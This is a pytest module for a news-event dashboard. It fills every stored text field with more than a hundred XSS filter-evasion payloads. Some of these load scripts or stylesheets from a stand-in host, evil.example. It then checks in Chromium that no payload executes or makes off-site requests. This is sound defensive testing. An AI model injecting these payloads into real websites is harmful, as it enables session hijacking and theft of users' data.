"""XSS filter-evasion vectors in every stored text field, rendered by the dashboard in Chromium.

In the spirit of the OWASP XSS Filter Evasion Cheat Sheet (the vectors are our own): each is put
into article titles, bodies and event sentences ("Iran attacked Iraq. <payload>"), actor names
and codes, pattern ids, quotes and skipped-input paths, in a store built without the NLP model.
Every view is then visited in Debian's chromium (Playwright, no browser download). Fails on any
dialog, console error, page error, request off loopback (or to a ``javascript:`` URL, or to a
path the dashboard never asks for), or an execution marker (``window.__xss``, ``document.title``).
"""

from __future__ import annotations

import hashlib
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import detente
from detente.models import Article, Event, Evidence, RawDocument, Skip
from detente.quotes import Quote
from detente.web import create_app

from .test_browser import ARGS, CHROMIUM, _free_port

pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="no /usr/bin/chromium")
sync_api = pytest.importorskip("playwright.sync_api")
uvicorn = pytest.importorskip("uvicorn")

A = "window.__xss=1;document.title='XSS';alert(1)"
VECTORS: list[str] = [
    # script tags: casings, spacing, broken and nested tags
    f"<script>{A}</script>",
    f"<SCRIPT>{A}</SCRIPT>",
    f"<ScRiPt>{A}</sCrIpT>",
    f"<script >{A}</script >",
    f"<script\n>{A}</script>",
    f"<script/xss>{A}</script>",
    f'<script src="data:text/javascript,{A}"></script>',
    "<script src=//evil.example/x.js></script>",
    "<script src=http://evil.example/xss.js?< B >",
    f"<<script>{A}//<</script>",
    f"<scr<script>ipt>{A}</scr</script>ipt>",
    f"<script>{A}",
    f"</title><script>{A}</script>",
    f"</textarea><script>{A}</script>",
    f"</style><script>{A}</script>",
    f"</script><script>{A}</script>",
    f'"><script>{A}</script>',
    f"'><script>{A}</script>",
    f'" onmouseover="{A}" x="',
    f"' onfocus='{A}' autofocus x='",
    f'"autofocus onfocus="{A}',
    f"--><script>{A}</script><!--",
    f"<!--<script>{A}</script>-->",
    f"<![CDATA[<script>{A}</script>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={A}>">',
    # images and event handlers on many tags
    f"<img src=x onerror={A}>",
    f'<IMG SRC=x ONERROR="{A}">',
    f"<img src=x onerror='{A}'/>",
    f"<img/src=x/onerror={A}>",
    f"<img src=`x` onerror=`{A}`>",
    f"<img\tsrc=x\tonerror={A}>",
    f'<img src="javascript:{A}">',
    "<img src=x:alert(1) onerror=eval(src)>",
    f'<img dynsrc="javascript:{A}">',
    f'<img lowsrc="javascript:{A}">',
    f"<svg onload={A}>",
    f"<svg/onload={A}>",
    f"<svg><script>{A}</script></svg>",
    f"<svg><animate onbegin={A} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{A}"><text x=20 y=20>XSS</text></a></svg>',
    f"<body onload={A}>",
    f"<body onpageshow={A}>",
    f"<input autofocus onfocus={A}>",
    f"<select autofocus onfocus={A}>",
    f"<textarea autofocus onfocus={A}>",
    f"<keygen autofocus onfocus={A}>",
    f"<video><source onerror={A}></video>",
    f"<audio src=x onerror={A}>",
    f"<details open ontoggle={A}>",
    f"<marquee onstart={A}>XSS</marquee>",
    f'<div onmouseover="{A}" style="position:fixed;inset:0">hover</div>',
    f"<a onmouseover={A}>x</a>",
    f'<iframe onload="{A}"></iframe>',
    f'<object data="javascript:{A}"></object>',
    f'<embed src="javascript:{A}">',
    f'<form><button formaction="javascript:{A}">x</button></form>',
    f'<isindex action="javascript:{A}" type=image>',
    f'<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror="{A}">',
    # javascript: and data: URLs, iframes
    f'<a href="javascript:{A}">click</a>',
    f'<a href="JaVaScRiPt:{A}">click</a>',
    f'<a href=" &#14;  javascript:{A}">click</a>',
    f'<a href="jav&#x09;ascript:{A}">click</a>',
    f'<a href="jav\tascript:{A}">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    f"javascript:{A}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f'<iframe src="javascript:{A}"></iframe>',
    f'<iframe src="data:text/html,<script>{A}</script>"></iframe>',
    f'<iframe srcdoc="<script>parent.{A}</script>"></iframe>',
    f'<iframe srcdoc="&lt;img src=x onerror=parent.{A}&gt;"></iframe>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{A}">',
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    '<base href="https://evil.example/">',
    '<base href="javascript:/a/-alert(1)///////">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    # CSS
    "<style>@import 'https://evil.example/x.css';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<div style="width: expression(alert(1));">x</div>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    "<style>*{x:expression(alert(1))}</style>",
    '<div style="behavior: url(https://evil.example/x.htc);">x</div>',
    # entity / percent / unicode / escape variants
    f"&lt;script&gt;{A}&lt;/script&gt;",
    f"&#60;script&#62;{A}&#60;/script&#62;",
    f"&#x3C;img src=x onerror={A}&#x3E;",
    f"%3Cscript%3E{A}%3C%2Fscript%3E",
    f"%253Cscript%253E{A}%253C%252Fscript%253E",
    f"\\u003cscript\\u003e{A}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{A}\\x3c/script\\x3e",
    f"\uff1cscript\uff1e{A}\uff1c/script\uff1e",
    f"<scr\u0000ipt>{A}</scr\u0000ipt>",
    f"\u202e<script>{A}</script>",
    f"+ADw-script+AD4-{A}+ADw-/script+AD4-",
    # template and prototype payloads
    "{{constructor.constructor('window.__xss=1;alert(1)')()}}",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${alert(1)}",
    "`${window.__xss=1}`",
    "#{alert(1)}",
    "{{$on.constructor('alert(1)')()}}",
    "__proto__[innerHTML]=<img src=x onerror=alert(1)>",
    f"<x ng-app>{{{{constructor.constructor('{A}')()}}}}</x>",
    # JSON / string breakouts
    f'"}}</script><script>{A}</script>',
    f"';{A};//",
    f'";{A};//',
    f"\\';{A};//",
    f"</script><svg onload={A}>",
]


def _doc(i: int, payload: str) -> tuple[tuple[RawDocument, Article, str, list[Event]], Skip, str]:
    title = f"Report {i} {payload}"
    sentence = f"Iran attacked Iraq. {payload}"
    body = f"{sentence}\n\nTurkey met Syria on Monday. {payload}"
    art = Article(title=title, body=body, date="2014-09-25", authors=(payload,), publisher=payload)
    text = art.text_for_coding
    start = text.index(sentence)
    trig = text.index("attacked", start)
    ev = Evidence(
        sentence,
        start,
        start + len(sentence),
        "attacked",
        trig,
        trig + 8,
        f"verbs.tsv:{payload}",
        source_text=payload,
        target_text=payload,
        reported_by_text=payload,
    )
    codes = ("IRN", "IRQ") if i % 10 else (payload[:40], "IRQ")  # some codes are payloads too
    event = Event(
        codes[0], codes[1], "190", "19", -10.0, 4, "ASSAULT", ev,
        when="2014-09-22", when_precision="day", source_name=payload, target_name=payload,
        source_sector=payload,
    )  # fmt: skip
    data = f"{title}\n\n{body}".encode()
    raw = RawDocument(f"/tmp/xss/{i}-{payload}.txt", data, hashlib.sha256(data).hexdigest(), "text")
    skip = Skip(f"/tmp/xss/{payload}/{i}.html", "not a text page", detail=payload)
    return (raw, art, "utf-8", [event]), skip, sentence


def build_store(path: str) -> list[str]:
    """A store whose every text field carries one vector; the event sentences, in order."""
    items, skips, sentences, quotes = [], [], [], {}
    for i, payload in enumerate(VECTORS):
        item, skip, sentence = _doc(i, payload)
        items.append(item)
        skips.append(skip)
        sentences.append(sentence)
        ev = item[3][0].evidence
        quotes[item[0].content_hash] = [
            Quote("direct", payload, sentence, ev.sentence_start, ev.sentence_end, "say", payload,
                  speaker_name=payload, speaker_role=payload, sentence_start=ev.sentence_start,
                  sentence_end=ev.sentence_end)
        ]  # fmt: skip
    with detente.open_store(path) as store:
        store.write_batch(items, skips, "xss", quotes=quotes)
    return sentences


class _Server(uvicorn.Server):  # type: ignore[misc,name-defined]
    def install_signal_handlers(self) -> None:  # running in a thread
        pass


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, dict[str, str]]]:
    """The app over the XSS store, served on loopback; and event id -> sentence."""
    db = str(tmp_path_factory.mktemp("xss") / "xss.duckdb")
    build_store(db)
    with detente.open_store(db, read_only=True) as store:
        df = store.events(limit=10_000)
    by_id = dict(zip(df["event_id"], df["sentence"], strict=True))
    port = _free_port()
    server = _Server(uvicorn.Config(create_app(db), host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert time.monotonic() < deadline, "server did not start"
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}", by_id
    server.should_exit = True
    thread.join(10)


NOT_FOUND = "Failed to load resource: the server responded with a status of 4"  # bad ids: 404, 422


def _watch(page: Any, base: str, problems: list[str]) -> None:
    allowed = ("/static/", "/api/", "/favicon")

    def request(req: Any) -> None:
        url = req.url
        if url.startswith("data:"):
            return
        path = url[len(base) :] if url.startswith(base + "/") else ""
        if not (path == "/" or path.startswith(allowed)):
            problems.append(f"request: {url[:200]}")

    page.on("dialog", lambda d: (problems.append(f"dialog: {d.message}"), d.dismiss()))
    page.on("pageerror", lambda e: problems.append(f"page error: {e}"))
    page.on(
        "console",
        lambda m: (
            problems.append(f"console {m.type}: {m.text[:200]}")
            if (m.type == "error" and not m.text.startswith(NOT_FOUND)) or "xss" in m.text.lower()
            else None
        ),
    )
    page.on("request", request)


MARKERS = """() => [window.__xss === undefined, document.title,
  document.querySelectorAll('main img, main iframe, main svg, main object, main embed, main style,'
    + ' main script, base, main meta, main link, main input[autofocus], main marquee,'
    + ' main a[href^=javascript]').length]"""


def test_xss_vectors_render_as_text_in_every_view(served: tuple[str, dict[str, str]], browser: Any) -> None:
    base, by_id = served
    assert len(VECTORS) >= 80
    problems: list[str] = []
    page = browser.new_page(viewport={"width": 1300, "height": 900})
    page.set_default_timeout(20_000)
    _watch(page, base, problems)
    response = page.goto(base + "/")
    assert response is not None
    assert "script-src 'self'" in response.headers["content-security-policy"]
    title = page.title()
    visited = 0

    def check(view: str) -> None:
        nonlocal visited
        visited += 1
        ok, now, elements = page.evaluate(MARKERS)
        assert ok and now == title and elements == 0, (view, ok, now, elements)
        assert problems == [], (view, problems[:5])

    def visit(hash_: str, ready: str, arg: Any = None) -> None:
        page.evaluate("h => { location.hash = h; }", hash_)
        page.wait_for_function(ready, arg=arg)
        page.wait_for_timeout(50)
        check(hash_)

    page.wait_for_selector("#timeline-list table")
    check("#/")
    visit("#/timeline?a=IRN&b=IRQ&interval=day", "() => document.querySelector('#timeline-list tbody tr')")
    visit("#/network", "() => document.querySelector('#network-chart canvas')")
    page.hover("#network-chart canvas", position={"x": 400, "y": 250})  # tooltips, if a node is there
    visit("#/events?dyad=IRN,IRQ", "() => document.querySelectorAll('#events-list tbody tr').length === 50")
    visit("#/events?cameo=19", "() => document.querySelector('#events-list .pager')")
    page.click("#events-list button:has-text('next')")
    pager = "(document.querySelector('#events-list .pager') || {textContent: ''}).textContent"
    page.wait_for_function(f"() => {pager}.includes('51')")
    check("#/events page 2")
    rows = page.eval_on_selector_all("#events-list td.sentence", "ts => ts.map(t => t.textContent)")
    assert set(rows) <= set(by_id.values())
    visit("#/status", "() => document.querySelectorAll('#status-detail table').length >= 3")
    status_text = page.inner_text("#status-detail")
    assert "/tmp/xss/<script>" in status_text and "<img src=x onerror=" in status_text
    ready = "s => (document.getElementById('evidence-quote') || {}).textContent === s"
    for event_id, sentence in by_id.items():
        visit("#/event/" + event_id, ready, sentence)
    shown = page.text_content("#event-detail") or ""
    assert shown.count(sentence.removeprefix("Iran attacked Iraq. ")) >= 2  # as text, in several places
    # payloads in the URL itself: the hash router and the error box
    for payload in VECTORS[:20]:
        visit("#/event/" + payload, "() => !document.getElementById('error').hidden")
        page.evaluate("h => { location.hash = h; }", "#/events?actor=" + payload[:60])
        page.wait_for_function("() => document.querySelector('#events-list .pager, #events-list .empty')")
        check("#/events?actor=payload")
    page.close()
    print(f"xss: {len(VECTORS)} vectors, {len(by_id)} events, {visited} views, problems: {len(problems)}")
    assert problems == []


def test_the_checks_catch_markup_parsed_as_html(served: tuple[str, dict[str, str]], browser: Any) -> None:
    """Negative control: a vector put in with innerHTML (the bug the app avoids) is caught."""
    base, _ = served
    problems: list[str] = []
    page = browser.new_page()
    _watch(page, base, problems)
    page.goto(base + "/")
    page.wait_for_selector("#timeline-list table")
    page.evaluate("v => { document.querySelector('main').insertAdjacentHTML('beforeend', v); }", VECTORS[25])
    page.wait_for_timeout(500)
    assert page.evaluate(MARKERS)[2] == 1
    assert any(p.startswith("request: " + base + "/x") for p in problems), problems
    assert any("Content Security Policy" in p for p in problems), problems  # the CSP blocked onerror
    page.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield b
        b.close()
